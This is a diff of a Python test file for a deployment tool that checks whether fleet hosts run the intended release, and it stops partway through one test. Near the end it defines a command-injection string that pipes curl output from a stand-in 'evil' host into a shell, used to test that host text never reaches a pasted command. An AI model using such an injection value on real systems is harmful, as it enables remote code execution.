@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import base64
 import itertools
 import json
 import time
@@ -14,36 +13,53 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from deploytool.agent.model import (
+    Asked,
+    DiskRead,
+    FileDigest,
+    Latch,
+    Manifest,
+    Marks,
+    Other,
+    Owner,
+    Process,
+    Property,
+    Rights,
+    Run,
+    Verified,
+)
+from deploytool.agent.model import Evidence as Shown
+from deploytool.agent.record import Malformed
+from deploytool.agent.requests import Answer, Locked
+from deploytool.agent.requests import Shown as Answered
 from deploytool.errors import FaultKind, HostFault
-from deploytool.fleet.protocol import Reply, parse_reply
-from deploytool.parity.evidence import parse_evidence
-from deploytool.parity.fleet_rules import judge_fleet
+from deploytool.parity.evidence import read_evidence
 from deploytool.parity.host_notices import notices
 from deploytool.parity.judge import judge, shown_manifest
-from deploytool.parity.model import (
-    Evidence,
-    Finding,
-    Halt,
-    HostVerdict,
-    Level,
-    Mark,
-    Parity,
-    Process,
-    Round,
-    Run,
-    Signers,
-    Verdict,
-)
+from deploytool.parity.model import Evidence, Finding, HostVerdict, Level, Parity, Round, Verdict
 from deploytool.parity.remedies import remedy
-from deploytool.parity.round import probe_call
-from deploytool.parity.rules import RULES, judge_host, lineage, runs_rule, status_rule
-from deploytool.simulation import fleet as simulated
+from deploytool.parity.rules import RULES, judge_host, lineage, status_rule
 
-from .evidences import MANIFEST, OTHER_SHA, RELEASE, bare, good, rendered, wanted
+from .evidences import MANIFEST, OTHER_SHA, bare, but, good, rendered, wanted
 
 NAMES = rendered().inventory.names
+SHOWN = good().shown
 MAIN = good().main_pid
-LATER = Process(MAIN + 1, 1, 9_999, "S", "python3 /opt/router/current/router serve")
+LATER = Process(
+    pid=MAIN + 1,
+    parent=1,
+    start=9_999,
+    state="S",
+    account=999,
+    command="python3 /opt/router/current/router serve",
+)
+COPY = Other(
+    pid=LATER.pid,
+    role="acts",
+    ways=("interprets",),
+    release=OTHER_SHA,
+    detail="/home/anna/router",
+)
 
 
 def verdict(evidence: Evidence) -> Verdict:
@@ -52,88 +68,113 @@ def verdict(evidence: Evidence) -> Verdict:
 
 def with_process(process: Process) -> dict[str, Any]:
     """A further process, alive throughout the round."""
-    still = {**good().still, process.pid: process.start}
-    return {"processes": {**good().processes, process.pid: process}, "still": still}
+    return {"processes": (*SHOWN.processes, process)}
 
 
 def with_unit(**properties: str) -> dict[str, Any]:
-    return {"unit": {**good().unit, **properties}}
+    kept = tuple(item for item in SHOWN.unit if item.name not in properties)
+    added = (Property(name=name, value=value) for name, value in properties.items())
+    return {"unit": (*kept, *added)}
 
 
 def without(mapping: Mapping[Any, Any], key: object) -> dict[Any, Any]:
     return {k: v for k, v in mapping.items() if k != key}
 
 
-def marked(**changes: Any) -> dict[str, Mark]:
-    mark = good().verified
+def main_with(**changes: Any) -> dict[str, Any]:
+    main = good().processes[MAIN].but(**changes)
+    return {"processes": tuple(main if p.pid == MAIN else p for p in SHOWN.processes)}
+
+
+def marked(**changes: Any) -> dict[str, Verified]:
+    mark = good().marks.verified
     assert mark is not None
-    return {"verified": replace(mark, **changes)}
+    return {"verified": mark.but(**changes)}
+
+
+def rights(*modes: tuple[int, int]) -> tuple[Rights, ...]:
+    return tuple(Rights(owner=owner, group=0, mode=mode) for owner, mode in modes)
+
+
+def owned(**changes: Any) -> dict[str, Any]:
+    assert SHOWN.artifact is not None
+    return {"artifact": SHOWN.artifact.but(rights=SHOWN.artifact.rights.but(**changes))}
 
 
 STATUS = dict(good().status or {})
-RUN = good().runs[0]
-UNIT_FILE = good().unit_files[0]
-OWN = (good().file or "").split()
-SIGNERS = Signers(wanted().signers or "", ("0:0:644", "0:0:755"))
-
-HALT = Halt("ab12", "me@here", "runaway orders", 1, fenced=False)
+RUN = SHOWN.runs[0]
+UNIT_FILE = SHOWN.unit_files[0]
+assert SHOWN.signers is not None
+SIGNERS = SHOWN.signers
+CONFIG = SHOWN.configs[0].path
+BOOT = "0" * 8
+LATCH = Latch(latch="ab12", by="me@here", reason="runaway+orders", since=1)
 
 SPOILED: dict[str, tuple[dict[str, Any], Level]] = {
-    "helper": ({"helper": OTHER_SHA}, Level.MISMATCH),
+    "agent": ({"agent": OTHER_SHA}, Level.MISMATCH),
     "link to another": ({"current": f"releases/{OTHER_SHA}"}, Level.MISMATCH),
     "link to nothing": ({"current": "none"}, Level.MISMATCH),
     "link that leaves releases": ({"current": f"/tmp/{MANIFEST.sha256}"}, Level.MISMATCH),
     "link, no link": ({"current": "not a link"}, Level.MISMATCH),
-    "disk": ({"disk_sha": OTHER_SHA}, Level.MISMATCH),
-    "disk not read": ({"disk_sha": None}, Level.UNKNOWN),
-    "manifest": ({"manifest_sha": OTHER_SHA}, Level.MISMATCH),
-    "manifest not read": ({"manifest_sha": None}, Level.UNKNOWN),
-    "file not seen": ({"file": None}, Level.UNKNOWN),
-    "file not root's": (
-        {"file": f"{OWN[0]} {OWN[1]} 1000:0:555 {OWN[3]} {OWN[4]}"},
-        Level.MISMATCH,
-    ),
-    "file writable": ({"file": f"{OWN[0]} {OWN[1]} 0:0:755 {OWN[3]} {OWN[4]}"}, Level.MISMATCH),
-    "no main process": ({"main_pid": 0}, Level.MISMATCH),
-    "another main process": ({"main_pid": MAIN + 1, **with_process(LATER)}, Level.MISMATCH),
-    "main process not looked at": ({"processes": {}}, Level.UNKNOWN),
-    "main process ended": ({"still": {}}, Level.MISMATCH),
-    "main process replaced meanwhile": ({"still": {MAIN: 1}}, Level.MISMATCH),
+    "disk": ({"disk": DiskRead(sha=OTHER_SHA, direct=True)}, Level.MISMATCH),
+    "disk not read": ({"disk": None}, Level.UNKNOWN),
+    "manifest": ({"manifest": Manifest(sha=OTHER_SHA)}, Level.MISMATCH),
+    "manifest not read": ({"manifest": None}, Level.UNKNOWN),
+    "file not seen": ({"artifact": None}, Level.UNKNOWN),
+    "file not root's": (owned(owner=1000), Level.MISMATCH),
+    "file writable": (owned(mode=0o755), Level.MISMATCH),
+    "no main process": ({"main": 0}, Level.MISMATCH),
+    "another main process": ({"main": MAIN + 1, **with_process(LATER)}, Level.MISMATCH),
+    "main process not looked at": ({"processes": ()}, Level.UNKNOWN),
+    "main process ended, or was replaced meanwhile": (main_with(still=False), Level.MISMATCH),
     "nothing runs": ({"runs": ()}, Level.UNKNOWN),
-    "main runs another release": ({"runs": (replace(RUN, sha=OTHER_SHA),)}, Level.MISMATCH),
-    "main runs an unreadable file": ({"runs": (replace(RUN, sha="unreadable"),)}, Level.MISMATCH),
-    "main runs a deleted file": (
-        {"runs": (replace(RUN, path=f"{RUN.path} (deleted)"),)},
+    "main runs another release": ({"runs": (RUN.but(sha=OTHER_SHA),)}, Level.MISMATCH),
+    "main runs an unreadable file": ({"runs": (RUN.but(sha=None),)}, Level.MISMATCH),
+    "main runs a deleted file": ({"runs": (RUN.but(deleted=True),)}, Level.MISMATCH),
+    "a copy beside it": ({"others": (COPY,), **with_process(LATER)}, Level.MISMATCH),
+    "a copy of the very release": (
+        {"others": (COPY.but(release=MANIFEST.sha256),), **with_process(LATER)},
         Level.MISMATCH,
     ),
-    "a second copy": (
-        {"runs": (RUN, replace(RUN, pid=LATER.pid)), **with_process(LATER)},
+    "a copy whose process was not looked at": ({"others": (COPY,)}, Level.MISMATCH),
+    "one that executes it": ({"others": (COPY.but(ways=("executes",)),)}, Level.MISMATCH),
+    "one that maps it": ({"others": (COPY.but(ways=("maps",)),)}, Level.MISMATCH),
+    "one that sends where it sends": (
+        {"others": (COPY.but(ways=("venue",), detail="192.0.2.9:1", release=None),)},
         Level.MISMATCH,
     ),
-    "an old copy": (
-        {"runs": (RUN, replace(RUN, pid=LATER.pid, sha=OTHER_SHA)), **with_process(LATER)},
+    "one that holds its port": (
+        {"others": (COPY.but(ways=("port",), detail="port 7001", release=None),)},
         Level.MISMATCH,
     ),
     "an old child": (
         {
-            "runs": (RUN, replace(RUN, pid=LATER.pid, sha=OTHER_SHA)),
-            **with_process(replace(LATER, parent=MAIN)),
+            "runs": (RUN, RUN.but(pid=LATER.pid, sha=OTHER_SHA)),
+            **with_process(LATER.but(parent=MAIN)),
         },
         Level.MISMATCH,
     ),
-    "an old copy whose process was not looked at": (
-        {"runs": (RUN, replace(RUN, pid=LATER.pid, sha=OTHER_SHA))},
+    "an old one that was not looked at": (
+        {"runs": (RUN, RUN.but(pid=LATER.pid, sha=OTHER_SHA))},
         Level.MISMATCH,
     ),
     "a process that can't be seen": (
-        {"unseen": frozenset({LATER.pid}), **with_process(LATER)},
+        {"others": (COPY.but(role="unseen", ways=(), release=None),), **with_process(LATER)},
         Level.UNKNOWN,
     ),
-    "an unseen process, not looked at": ({"unseen": frozenset({LATER.pid})}, Level.UNKNOWN),
-    "stopped, and says that it trades": ({"halt": HALT}, Level.MISMATCH),
-    "nobody listens": ({"owners": ()}, Level.MISMATCH),
-    "a stranger listens": ({"owners": ((7001, LATER.pid),)}, Level.MISMATCH),
-    "a stranger listens too": ({"owners": ((7001, MAIN), (7001, LATER.pid))}, Level.MISMATCH),
+    "an unseen process, not looked at": (
+        {"others": (COPY.but(role="unseen", ways=(), release=None),)},
+        Level.UNKNOWN,
+    ),
+    "not the whole host was seen": ({"whole": False}, Level.UNKNOWN),
+    "stopped, and says that it trades": ({"latch": LATCH}, Level.MISMATCH),
+    "nobody listens": ({"owners": (), "open_ports": ()}, Level.MISMATCH),
+    "nobody can be seen to listen": ({"owners": ()}, Level.UNKNOWN),
+    "a stranger listens": ({"owners": (Owner(port=7001, pid=LATER.pid),)}, Level.MISMATCH),
+    "a stranger listens too": (
+        {"owners": (Owner(port=7001, pid=MAIN), Owner(port=7001, pid=LATER.pid))},
+        Level.MISMATCH,
+    ),
     "no status": ({"status": None}, Level.UNKNOWN),
     "verified nothing": ({"verified": None}, Level.MISMATCH),
     "verified another release": (marked(release=OTHER_SHA), Level.MISMATCH),
@@ -147,47 +188,56 @@ SPOILED: dict[str, tuple[dict[str, Any], Level]] = {
     "unit changed, not reloaded": (with_unit(NeedDaemonReload="yes"), Level.MISMATCH),
     "unit failed": (with_unit(ActiveState="failed"), Level.MISMATCH),
     "unit restarting": (with_unit(SubState="auto-restart"), Level.MISMATCH),
-    "unit file altered": ({"unit_files": ((OTHER_SHA, UNIT_FILE[1]),)}, Level.MISMATCH),
+    "unit file altered": ({"unit_files": (UNIT_FILE.but(sha=OTHER_SHA),)}, Level.MISMATCH),
     "unit file gone": ({"unit_files": ()}, Level.MISMATCH),
     "unit file twice": ({"unit_files": (UNIT_FILE, UNIT_FILE)}, Level.MISMATCH),
     "a file beside the unit": (
-        {"unit_files": (UNIT_FILE, (OTHER_SHA, "/etc/systemd/system/router.service"))},
+        {"unit_files": (UNIT_FILE, UNIT_FILE.but(path="/etc/systemd/system/router.service"))},
         Level.MISMATCH,
     ),
     "configuration missing": (
-        {"configs": ((good().configs[0][0], "missing"),)},
+        {"configs": (FileDigest(path=CONFIG, missing=True),)},
         Level.MISMATCH,
     ),
-    "configuration unreadable": (
-        {"configs": ((good().configs[0][0], "unreadable"),)},
+    "configuration unreadable": ({"configs": (FileDigest(path=CONFIG),)}, Level.MISMATCH),
+    "root writable by others": (
+        {"rights": rights((0, 0o777), (0, 0o755), (0, 0o755))},
         Level.MISMATCH,
     ),
-    "root writable by others": ({"rights": ("0:0:777", "0:0:755", "0:0:755")}, Level.MISMATCH),
     "releases writable by the group": (
-        {"rights": ("0:0:755", "0:0:775", "0:0:755")},
+        {"rights": rights((0, 0o755), (0, 0o775), (0, 0o755))},
         Level.MISMATCH,
     ),
-    "state owned by another": ({"rights": ("0:0:755", "0:0:755", "9:0:755")}, Level.MISMATCH),
+    "state owned by another": (
+        {"rights": rights((0, 0o755), (0, 0o755), (9, 0o755))},
+        Level.MISMATCH,
+    ),
     "rights not seen": ({"rights": ()}, Level.UNKNOWN),
     "rebooted since": ({"boot": "another"}, Level.MISMATCH),
     "signers not shown": ({"signers": None}, Level.UNKNOWN),
-    "other signers": ({"signers": replace(SIGNERS, sha=OTHER_SHA)}, Level.MISMATCH),
-    "no signers": ({"signers": Signers("missing", ("0:0:755",))}, Level.MISMATCH),
-    "signers, rights not seen": ({"signers": replace(SIGNERS, rights=())}, Level.UNKNOWN),
+    "other signers": (
+        {"signers": SIGNERS.but(file=SIGNERS.file.but(sha=OTHER_SHA))},
+        Level.MISMATCH,
+    ),
+    "no signers": (
+        {"signers": SIGNERS.but(file=FileDigest(path="/s", missing=True), rights=())},
+        Level.MISMATCH,
+    ),
+    "signers, rights not seen": ({"signers": SIGNERS.but(rights=())}, Level.UNKNOWN),
     "signers writable by others": (
-        {"signers": replace(SIGNERS, rights=("0:0:646", "0:0:755"))},
+        {"signers": SIGNERS.but(rights=rights((0, 0o646), (0, 0o755)))},
         Level.MISMATCH,
     ),
     "signers owned by another": (
-        {"signers": replace(SIGNERS, rights=("7:0:644", "0:0:755"))},
+        {"signers": SIGNERS.but(rights=rights((7, 0o644), (0, 0o755)))},
         Level.MISMATCH,
     ),
     "signers in a folder of the service": (
-        {"signers": replace(SIGNERS, rights=("0:0:644", "7:7:755"))},
+        {"signers": SIGNERS.but(rights=rights((0, 0o644), (7, 0o755)))},
         Level.MISMATCH,
     ),
     "signers in a folder that others write": (
-        {"signers": replace(SIGNERS, rights=("0:0:644", "0:0:777"))},
+        {"signers": SIGNERS.but(rights=rights((0, 0o644), (0, 0o777)))},
         Level.MISMATCH,
     ),
     "clock ahead": ({"skew_s": 3600.0}, Level.MISMATCH),
@@ -197,7 +247,10 @@ for key in ("release", "version", "flag_table", "wire", "pid", "start_ticks", "b
     SPOILED[f"status lies: {key}"] = ({"status": {**STATUS, key: "a lie"}}, Level.MISMATCH)
     SPOILED[f"status silent: {key}"] = ({"status": without(STATUS, key)}, Level.UNKNOWN)
 for key in ("LoadState", "FragmentPath", "DropInPaths", "UnitFileState", "NeedDaemonReload"):
-    SPOILED[f"systemd silent: {key}"] = ({"unit": without(good().unit, key)}, Level.UNKNOWN)
+    SPOILED[f"systemd silent: {key}"] = (
+        {"unit": tuple(item for item in SHOWN.unit if item.name != key)},
+        Level.UNKNOWN,
+    )
 
 
 def test_p1_unspoiled_evidence_is_a_match() -> None:
@@ -211,7 +264,7 @@ def test_p1_unspoiled_evidence_is_a_match() -> None:
 @pytest.mark.parametrize("what", SPOILED)
 def test_p1_each_spoiled_piece_of_evidence_is_found(what: str) -> None:
     changes, level = SPOILED[what]
-    found = judge_host("router1", wanted(), replace(good(), **changes))
+    found = judge_host("router1", wanted(), but(good(), **changes))
     assert found.verdict is not Verdict.MATCH
     assert level in {finding.level for finding in found.findings}
     for finding in found.findings:
@@ -221,33 +274,75 @@ def test_p1_each_spoiled_piece_of_evidence_is_found(what: str) -> None:
 
 
 IMMATERIAL = {
-    "free_bytes": "what is left beside a running release is preflight's business",
+    "clock": "what it comes to is told by this side's clock, as the skew",
+    "free": "what is left beside a running release is preflight's business",
     "lacks": "what the artifact needs is preflight's business",
     "token": "who may change a host says nothing of what it runs",
     "lock": "who changes a host says nothing of what it runs",
     "finished": "what an earlier rollout did here",
     "hold": "what an earlier rollout said of the fleet",
-    "unconfirmed": "a host that nobody confirmed lacks the mark that is asked for",
-    "disk_way": "how it was read, not what",
-    "manifest": "its digest is what counts, and is taken on the host",
+    "deadman": "a host that nobody confirmed lacks the mark that is asked for",
+    "expired": "a host that was fenced does not run",
+    "fenced": "a host that was fenced does not run",
+    "unreadable": "who changes a host says nothing of what it runs",
     "group": "what runs is seen whatever the group says",
     "interpreters": "held against other hosts, not against the inventory",
     "machine": "held against other hosts",
+    "made": "says why the agent differs, where its digest does",
+    "marks": "told one by one",
+    "preload": "no rule reads it yet",
     "root": "held against other hosts",
+    "running": "no rule reads it yet",
+    "started": "no rule reads it yet",
+    "starters": "no rule reads it yet",
+    "state_error": "no rule reads it yet",
+    "state_writable": "no rule reads it yet",
     "status_text": "shown where there is no status",
     "rollout": "how far a deployer came",
     "previous": "what an earlier deployment left",
     "meant": "what an earlier release made of bits is asked when it is started",
-    "release_state": "what a host was asked besides",
+    "asked_release": "what a host was asked besides",
     "label": "what a host was asked besides",
+    "shown": "told one by one",
 }
 
 
 def test_p1_no_field_of_the_evidence_is_forgotten_here() -> None:
     touched = {name for changes, _ in SPOILED.values() for name in changes}
     known = touched | set(IMMATERIAL)
-    assert {field.name for field in fields(Evidence)} <= known
+    ours = {field.name for field in fields(Evidence)}
+    assert ours | {*Shown.fields} | {*Marks.fields} <= known
     assert not touched & set(IMMATERIAL)
+
+
+@pytest.mark.parametrize("role", ["account", "client", "neighbour", "reader"])
+def test_who_reads_or_is_expected_or_only_has_the_account_is_no_second_copy(role: str) -> None:
+    other = COPY.but(role=role, ways=("account",))
+    assert verdict(but(good(), others=(other,), **with_process(LATER))) is Verdict.MATCH
+
+
+def test_a_process_that_ended_during_the_look_is_a_passer_by_only_if_that_is_told() -> None:
+    gone = with_process(LATER.but(still=False))
+    assert verdict(but(good(), others=(COPY,), **gone)) is Verdict.MATCH
+    assert verdict(but(good(), others=(COPY,))) is Verdict.MISMATCH, "it was not looked at again"
+
+
+def test_an_agent_of_another_inventory_or_version_says_what_differs() -> None:
+    made = SHOWN.made
+    (finding,) = judge_host(
+        "router1", wanted(), but(good(), agent=OTHER_SHA, made=made.but(tool="0.0.7"))
+    ).findings
+    assert "made by deploytool 0.0.7, this is " in finding.found
+    other = tuple(
+        item.but(value="0" * 12) if item.name in {"configs", "start"} else item
+        for item in made.settings
+    )
+    (finding,) = judge_host(
+        "router1", wanted(), but(good(), agent=OTHER_SHA, made=made.but(settings=other))
+    ).findings
+    assert "made from another inventory: configs, start" in finding.found
+    (finding,) = judge_host("router1", wanted(), but(good(), agent=OTHER_SHA)).findings
+    assert "not what deploytool writes" in finding.found
 
 
 STATES = ("ACTIVE", "REDUCING", "HALTED", "", 7, None, "absent")
@@ -261,9 +356,9 @@ def test_p6_a_host_that_was_stopped_says_halted_or_is_no_match(
     said = without(STATUS, "trading_state") | (
         {} if state == "absent" else {"trading_state": state}
     )
-    halt = None if fenced is None else replace(HALT, fenced=fenced)
-    seen = replace(good(), halt=halt, status=said)
-    wrong = halt is not None and state not in {"HALTED", None, "absent"}
+    latch = None if fenced is None else LATCH
+    seen = but(good(), latch=latch, fenced=bool(fenced), status=said)
+    wrong = latch is not None and state not in {"HALTED", None, "absent"}
     assert (verdict(seen) is Verdict.MISMATCH) is wrong
     if wrong:
         (finding,) = judge_host("router1", wanted(), seen).findings
@@ -274,7 +369,7 @@ def test_p6_a_host_that_was_stopped_says_halted_or_is_no_match(
 
 def test_p6_what_was_stopped_and_trades_is_stopped_again_first_of_all() -> None:
     found: dict[str, Evidence | HostFault] = {host: good(host) for host in NAMES}
-    found["router3"] = replace(good("router3"), halt=replace(HALT, fenced=True))
+    found["router3"] = but(good("router3"), latch=LATCH, fenced=True)
     found["router4"] = HostFault(FaultKind.UNREACHABLE, "gone")
     taken = judge(rendered().inventory, found, MANIFEST)
     assert taken.parity is Parity.MIXED
@@ -282,135 +377,177 @@ def test_p6_what_was_stopped_and_trades_is_stopped_again_first_of_all() -> None:
     assert advice.endswith("deploytool stop -i fleet.yaml --host router3")
 
 
+DIGEST = st.sampled_from([OTHER_SHA, MANIFEST.sha256]) | st.integers(0, 2**64).map(
+    lambda number: f"{number:064x}"
+)
 TEXT = st.one_of(st.text(max_size=70), st.sampled_from(["none", "releases/", OTHER_SHA]))
+WORD = st.text("abcXYZ019@._:+-", min_size=1, max_size=20)
+PID = st.just(MAIN) | st.integers(2, 2**22)
+COUNT = st.integers(0, 2**40)
 NUMBER = st.integers(-(2**40), 2**40)
+PROPERTIES = st.dictionaries(st.sampled_from(sorted(good().unit)), TEXT).map(
+    lambda found: tuple(Property(name=name, value=value) for name, value in found.items())
+)
 ANYTHING: dict[str, st.SearchStrategy[Any]] = {
-    "helper": TEXT,
+    "agent": DIGEST,
     "current": TEXT,
-    "disk_sha": st.none() | TEXT,
-    "manifest_sha": st.none() | TEXT,
-    "main_pid": NUMBER,
+    "disk": st.none() | st.builds(DiskRead, sha=st.none() | DIGEST, direct=st.booleans()),
+    "manifest": st.none() | st.builds(Manifest, sha=DIGEST),
+    "main": COUNT,
     "skew_s": st.floats(30.1, 1e9) | st.floats(-1e9, -30.1),
-    "boot": TEXT,
+    "boot": WORD,
     "verified": st.none()
-    | st.builds(Mark, release=TEXT, pid=NUMBER, start=NUMBER, boot=TEXT, since=NUMBER),
+    | st.builds(
+        Verified,
+        release=DIGEST,
+        pid=PID,
+        start=COUNT,
+        boot=WORD,
+        token=COUNT,
+        since=st.integers(0, 2**37),
+    ),
     "runs": st.lists(
         st.builds(
             Run,
-            pid=st.just(MAIN) | NUMBER,
+            pid=PID,
             how=st.just("fd"),
-            inode=TEXT,
-            sha=TEXT,
-            path=TEXT,
+            inode=WORD,
+            sha=st.none() | DIGEST,
+            path=WORD,
+            deleted=st.booleans(),
         ),
         max_size=3,
     ).map(tuple),
-    "owners": st.lists(st.tuples(st.just(7001), NUMBER), max_size=3).map(tuple),
+    "owners": st.lists(st.builds(Owner, port=st.just(7001), pid=PID), max_size=3).map(tuple),
     "status": st.none()
     | st.dictionaries(st.sampled_from(sorted(STATUS)), TEXT | NUMBER | st.none()),
-    "unit": st.dictionaries(st.sampled_from(sorted(good().unit)), TEXT),
-    "unit_files": st.lists(st.tuples(TEXT, TEXT), max_size=3).map(tuple),
-    "still": st.dictionaries(st.just(MAIN) | NUMBER, NUMBER, max_size=2),
+    "unit": PROPERTIES,
 }
 
 
 @given(st.data())
 def test_p1_one_altered_field_is_never_a_match(data: st.DataObject) -> None:
     name = data.draw(st.sampled_from(sorted(ANYTHING)))
-    value = data.draw(ANYTHING[name].filter(lambda v: v != getattr(good(), name)))
-    if name == "still" and value.get(MAIN) == good().processes[MAIN].start:
-        return  # the main process is all that has to be still there
-    if name == "owners" and {*value} == {*good().owners}:
-        return  # a socket that is shown twice has the same owner
-    altered = replace(good(), **{name: value})
+    value = data.draw(ANYTHING[name])
+    altered = but(good(), **{name: value})
+    if altered == good() or _as_good(altered):
+        return
     assert verdict(altered) is not Verdict.MATCH
+
+
+def _as_good(seen: Evidence) -> bool:
+    """Whether it shows what the good one does, in other words or with what does not count."""
+    shown, was = seen.shown, SHOWN
+    same = {(run.pid, run.sha, run.deleted) for run in shown.runs} == {
+        (MAIN, MANIFEST.sha256, False)
+    }
+    disk, verified = shown.disk, seen.marks.verified
+    return (
+        (shown.runs != was.runs and same)
+        or (shown.owners != was.owners and {*shown.owners} == {*was.owners})
+        or (disk != was.disk and disk is not None and disk.sha == MANIFEST.sha256)
+        or (
+            shown.manifest != was.manifest
+            and shown.manifest is not None
+            and shown.manifest.sha == MANIFEST.digest()
+        )
+        or (
+            verified != good().marks.verified
+            and verified is not None
+            and verified.but(token=1, since=1) == good().marks.verified
+        )
+    )
 
 
 @given(st.permutations(RULES), st.sampled_from(sorted(SPOILED)))
 def test_p1_the_order_of_the_rules_changes_nothing(rules: list[Any], what: str) -> None:
-    spoiled = replace(good(), **SPOILED[what][0])
+    spoiled = but(good(), **SPOILED[what][0])
     straight = judge_host("router1", wanted(), spoiled)
     shuffled = judge_host("router1", wanted(), spoiled, tuple(rules))
     assert set(straight.findings) == set(shuffled.findings)
 
 
 def test_a_child_of_the_service_is_the_service() -> None:
-    child = replace(LATER, parent=MAIN)
-    grandchild = replace(LATER, pid=LATER.pid + 1, parent=LATER.pid)
-    both = {**with_process(child)["processes"], grandchild.pid: grandchild}
-    still = {**with_process(child)["still"], grandchild.pid: grandchild.start}
-    runs = (RUN, replace(RUN, pid=grandchild.pid))
-    evidence = replace(good(), processes=both, still=still, runs=runs)
+    child = LATER.but(parent=MAIN)
+    grandchild = LATER.but(pid=LATER.pid + 1, parent=LATER.pid)
+    runs = (RUN, RUN.but(pid=grandchild.pid))
+    evidence = but(good(), processes=(*SHOWN.processes, child, grandchild), runs=runs)
     assert lineage(evidence) == {MAIN, child.pid, grandchild.pid}
     assert verdict(evidence) is Verdict.MATCH
 
 
-def test_a_passer_by_that_is_gone_is_no_second_copy() -> None:
-    passing = {**good().processes, LATER.pid: LATER}
-    evidence = replace(good(), processes=passing, runs=(RUN, replace(RUN, pid=LATER.pid)))
-    assert verdict(evidence) is Verdict.MATCH
-
-
 def test_no_process_family_goes_round_for_ever() -> None:
-    looped = {MAIN: replace(good().processes[MAIN], parent=MAIN)}
-    assert lineage(replace(good(), processes=looped)) == {MAIN}
+    assert lineage(but(good(), **main_with(parent=MAIN))) == {MAIN}
 
 
 def test_a_host_that_shows_all_the_processes_an_answer_can_hold_holds_nobody_up() -> None:
     """A chain of them, listed child first: one look at it must not stop a watch's renewals."""
-    chain = {MAIN: good().processes[MAIN]}
-    for pid in range(100_000 + 30_000, 100_000, -1):
-        chain[pid] = Process(pid, pid - 1 if pid > 100_001 else MAIN, 1, "S", "x")
+    main = good().processes[MAIN]
+    chain = [
+        LATER.but(pid=pid, parent=pid - 1 if pid > 100_001 else MAIN)
+        for pid in range(100_000 + 30_000, 100_000, -1)
+    ]
+    seen = but(good(), processes=(*chain, main))
     began = time.process_time()
-    assert len(lineage(replace(good(), processes=chain))) == 30_001
+    assert len(lineage(seen)) == 30_001
     assert time.process_time() - began < 2
 
 
-def _told(key: str, value: str) -> Reply:
-    """A good host's answer, one line of it altered."""
-    reply = simulated.running("router1", rendered(), *RELEASE).call(probe_call(), deadline_s=5)
-    assert reply.one(key) is not None
-    return Reply(tuple((k, value if k == key else v) for k, v in reply.lines), reply.asked_at)
-
-
-def test_a_process_that_ended_between_the_scan_and_its_stat_is_a_passer_by_only_if_told() -> None:
-    lines = _told("clock", str(time.time())).lines
-    pid, _, rest = dict(lines)["runs"].partition(" ")
-    second = ("runs", f"{int(pid) + 1} {rest}")
-    gone = ("process", f"{int(pid) + 1} 0 0 X ended since the scan")
-    untold = parse_evidence(Reply((*lines, second)), time.time())
-    assert [f for f in runs_rule(wanted(), untold) if "second copy" in str(f)]
-    assert not list(runs_rule(wanted(), parse_evidence(Reply((*lines, second, gone)), time.time())))
+def _read(**changes: Any) -> Evidence:
+    """A good host's answer, something in it altered."""
+    plain = SHOWN.to_json() | changes
+    return read_evidence(Answered.from_json({"evidence": plain}), time.time(), time.time())
 
 
 @pytest.mark.parametrize(
-    ("key", "value"),
+    "changes",
     [
-        *(("rights", text) for text in ("a b c", "0:0:9 0:0:755 0:0:755", "0:0 0:0 0:0")),
-        *(("file", text) for text in ("x", "a b c", "8:1 1 0:0:999 1 1")),
-        *(("clock", text) for text in ("nan", "inf", "-inf")),
+        {"rights": ["a b c"]},
+        {"rights": [{"owner": 0, "group": 0, "mode": 0o10000}]},
+        {"artifact": "x"},
+        {"clock": float("nan")},
+        {"clock": float("inf")},
+        {"clock": -1},
+        {"marks": {"lock": {"token": 1, "holder": "a b", "purpose": "p", "plan": "x", "since": 1}}},
+        {"marks": {"lock": {"token": 1, "holder": "a", "purpose": "p", "plan": "x", "since": -1}}},
+        {"marks": {"latch": {"latch": "ab", "by": "me", "reason": "x", "since": 10**18}}},
     ],
+    ids=str,
 )
-def test_p1_what_is_no_evidence_is_that_host_s_fault_and_ends_nothing(key: str, value: str) -> None:
-    with pytest.raises(HostFault):
-        parse_evidence(_told(key, value), time.time())
+def test_p1_what_is_no_evidence_is_not_read(changes: dict[str, Any]) -> None:
+    with pytest.raises(Malformed):
+        _read(**changes)
 
 
-@pytest.mark.parametrize("since", ["-1", str(10**18), "9" * 5000])
-def test_a_time_that_no_calendar_has_is_that_host_s_fault(since: str) -> None:
-    lines = (*_told("clock", str(time.time())).lines, ("lock", _LOCK.format(since)))
-    with pytest.raises(HostFault):
-        parse_evidence(Reply(lines), time.time())
-    stopped = (*_told("clock", str(time.time())).lines, ("halted", f"latch ab since {since}"))
-    assert notices({"a": parse_evidence(Reply(stopped), time.time())}, time.time())
+@pytest.mark.parametrize("name", ["processes", "unit", "others"])
+def test_p1_what_is_told_twice_is_that_host_s_fault(name: str) -> None:
+    seen = but(good(), others=(COPY,)).shown
+    twice = {name: (*getattr(seen, name), getattr(seen, name)[0])}
+    with pytest.raises(HostFault, match="told twice"):
+        read_evidence(Answered(evidence=seen.but(**twice)), 0, 0)
 
 
-_LOCK = "token 1 holder me purpose deploy plan ab since {}"
+@pytest.mark.parametrize(
+    "answer", [Locked(token=1), Locked(token=1, unshown="no room\x1b[2J"), Answer()], ids=str
+)
+def test_p1_no_evidence_is_not_evidence(answer: Answer) -> None:
+    with pytest.raises(HostFault) as caught:
+        read_evidence(answer, 0, 0)
+    assert caught.value.text.isprintable()
+
+
+def test_a_latch_that_can_t_be_read_is_a_latch() -> None:
+    seen = but(good(), unreadable=("halted",))
+    assert seen.halt is not None
+    assert (seen.halt.latch, seen.halt.by) == ("", "unknown")
+    assert notices({"a": seen}, time.time())
+    assert but(good(), latch=LATCH).halt != seen.halt
+    assert getattr(but(good(), latch=LATCH).halt, "reason", "") == "runaway orders"
 
 
 @pytest.mark.parametrize("odd", [1, 8])
 def test_p1_a_link_that_names_no_digest_is_a_mismatch_and_ends_nothing(odd: int) -> None:
-    strange = {name: replace(good(name), current="releases/by-hand") for name in NAMES[:odd]}
+    strange = {name: but(good(name), current="releases/by-hand") for name in NAMES[:odd]}
     seen = {name: strange.get(name, good(name)) for name in NAMES}
     taken = judge(rendered().inventory, seen, shown_manifest(seen))
     assert taken.parity is not Parity.PARITY
@@ -421,8 +558,8 @@ EVIL = "RETAIL;curl${IFS}evil|sh;"
 
 
 def test_no_word_of_a_host_ends_up_in_a_command_that_a_person_pastes() -> None:
-    said = base64.b64encode(json.dumps({**STATUS, "armed": [EVIL]}).encode()).decode()
